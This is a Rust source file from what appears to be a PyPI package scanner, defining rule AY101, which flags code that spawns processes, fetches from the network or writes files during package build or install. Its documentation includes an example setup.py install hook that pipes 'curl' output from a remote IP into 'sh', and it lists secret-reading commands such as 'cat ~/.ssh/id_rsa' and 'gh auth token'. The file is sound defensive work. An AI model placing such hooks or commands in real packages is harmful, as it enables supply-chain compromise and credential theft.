use crate::finding::Finding;
use crate::python::ExecContext;
use crate::rules::helpers::capabilities::check_file;
use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};

declare_rule! {
    /// Code that runs processes, opens network connections or writes files
    /// while the package is being built or installed.
    ///
    /// ## What it finds
    /// Calls in install-time context — the top level of an sdist's `setup.py`,
    /// methods of `cmdclass` overrides (any subclass of a setuptools or
    /// distutils command), in-tree PEP 517 build backends, and every local
    /// function those call — that spawn a process, touch the network, or write
    /// files. A network call together with a process, code execution or file
    /// write in the same install-time file is reported as one chain.
    ///
    /// ## Why it matters
    /// `pip install` of an sdist runs this code with the installing user's
    /// rights, before anyone has imported anything. It is the most common
    /// place for PyPI malware: droppers that download and run a second stage,
    /// stealers, reverse shells. Legitimate builds mostly run compilers and
    /// `git`, and rarely fetch anything.
    ///
    /// Severity: sending host details, environment variables or credentials
    /// is critical, and so is a download together with running a process
    /// (other than a build tool) or executing code, or a shell command that
    /// fetches or decodes (`curl … | sh`, `powershell -enc`); a network
    /// call alone, a download with file writes, a discovery command
    /// (`whoami`, `systeminfo`, `net user`), a command that reads secrets
    /// (`cat ~/.ssh/id_rsa`, a CI runner's `/var/run/secrets/…` or
    /// `/tekton/…`, `gh auth token`) or one that opens a desktop program
    /// (`calc.exe`, the usual proof of concept) is high; other process
    /// spawns are low (build tools) or medium; plain file writes low, high
    /// when they target shell start-up files, `.pth` files, autostart
    /// folders and the like. Writing a `.pth` file the package also ships
    /// under that name is medium: a wheel installs the same file, and what
    /// its lines do is judged where it is shipped (AY102), so an sdist and
    /// its wheel get the same verdict (docs/verdict.md).
    ///
    /// ## Example
    /// ```python
    /// from setuptools import setup
    /// from setuptools.command.install import install
    ///
    /// class PostInstall(install):
    ///     def run(self):
    ///         import os
    ///         os.system("curl -s http://203.0.113.7/x | sh")
    ///         install.run(self)
    ///
    /// setup(name="pkg", cmdclass={"install": PostInstall})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1195.001 (Compromise Software Dependencies and
    /// Development Tools), T1059 (Command and Scripting Interpreter).
    pub struct InstallTimeExecution {
        id: "AY101",
        slug: "install-time-execution",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for InstallTimeExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let shipped_pth: Vec<&str> = facts
            .inventory
            .iter()
            .map(|f| f.path.rsplit(['/', '\\']).next().unwrap_or(&f.path))
            .filter(|name| name.to_ascii_lowercase().ends_with(".pth"))
            .collect();
        for file in facts.python {
            check_file(&Self::META, file, ExecContext::Install, &shipped_pth, out);
        }
    }
}
